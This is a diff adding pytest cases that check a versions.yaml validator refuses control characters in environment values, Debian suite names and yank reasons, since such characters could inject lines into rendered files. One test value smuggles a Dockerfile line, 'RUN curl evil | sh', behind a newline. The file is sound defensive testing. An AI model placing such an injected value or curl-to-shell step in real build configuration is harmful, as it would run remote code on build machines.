@@ -505,3 +505,25 @@ def test_pinned_twice_names_both_spellings_as_written(tmp_path):
     joined = "\n".join(problems(tmp_path, edit(pin_twice)(fixture_text())))
     assert "'apache_airflow_providers_celery'" in joined
     assert "pinned twice" in joined
+
+
+# --- values that would inject lines into rendered files are refused ----------------------------
+
+
+@pytest.mark.parametrize(("mutation", "expected"), [
+    pytest.param(edit(lambda doc: line(doc, 14).setdefault("environment", {}).__setitem__(
+        "AIRFLOW__CORE__X", "1\nRUN curl evil | sh")),
+        "versions.yaml: lines[1] (Runtime 14) > environment > AIRFLOW__CORE__X: '1\\nRUN curl evil | sh' contains "
+        "the control character '\\n' at position 1", id="newline-in-an-environment-value"),
+    pytest.param(edit(lambda doc: doc["suites"].__setitem__("trixie\nRUN x", {"debian": "13", "python": "3.13"})),
+                 "versions.yaml: suites > 'trixie\\nRUN x': 'trixie\\nRUN x' contains the control character",
+                 id="newline-in-a-suite-name"),
+    pytest.param(edit(lambda doc: doc["suites"].__setitem__("Trixie Backports", {"debian": "13", "python": "3.13"})),
+                 "versions.yaml: suites > 'Trixie Backports': 'Trixie Backports' is not a Debian suite name",
+                 id="suite-name-not-a-name"),
+    pytest.param(edit(lambda doc: release(doc, "14.0.2").__setitem__("yanked", "broken\r\nsee elsewhere")),
+                 "contains the control character '\\r'", id="carriage-return-in-a-reason"),
+])
+def test_control_characters_are_refused(tmp_path, mutation, expected):
+    reported = problems(tmp_path, mutation(fixture_text()))
+    assert any(expected in problem for problem in reported), "\n".join(reported)
